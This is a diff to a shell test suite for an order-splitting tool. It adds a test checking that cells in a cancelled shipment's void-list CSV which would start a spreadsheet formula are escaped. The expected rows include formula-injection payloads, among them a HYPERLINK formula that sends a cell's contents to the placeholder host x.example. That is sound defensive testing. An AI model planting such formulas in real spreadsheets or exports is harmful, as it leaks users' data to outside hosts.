@@ -118,10 +118,22 @@ locations() {
 	loc=$(locations)
 	order "=1+1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
 	run -0 oms-split --locations "$loc" --manifest-dir "$T/m" "$T/in"
-	assert_equal "$(ls "$T/m")" "-LOC.csv"
+	assert_equal "$(ls "$T/m")" "$(printf '%s\n' -LOC.csv void)"
 	assert_equal "$(sed -n 2p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,\"'-TEE\",\"'@S\",\"'=C\",\"'+M\",2,-1.00,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\""
 	assert_equal "$(sed -n 3p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,TEE,,,,1,12.50,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\""
 	run -0 formulas "$T/m/-LOC.csv"
+	assert_output ''
+}
+
+@test "void lists: a cancelled shipment's cells that would start a formula are guarded; qty stays a number" {
+	loc=$(locations)
+	order "=1+1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
+	oms-split --locations "$loc" "$T/in" > "$T/night1"
+	# The order is cancelled: its released shipment goes to the void list.
+	jq -c 'if .type == "order" then .status = "cancelled" | .lines[].allocated = [] else . end' "$T/night1" > "$T/night2"
+	run -0 oms-split --locations "$loc" --manifest-dir "$T/m" "$T/night2"
+	assert_equal "$(sed -n 2p "$T/m/void/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-TEE\",2,the order was cancelled"
+	run -0 formulas "$T/m/void/-LOC.csv"
 	assert_output ''
 }
 
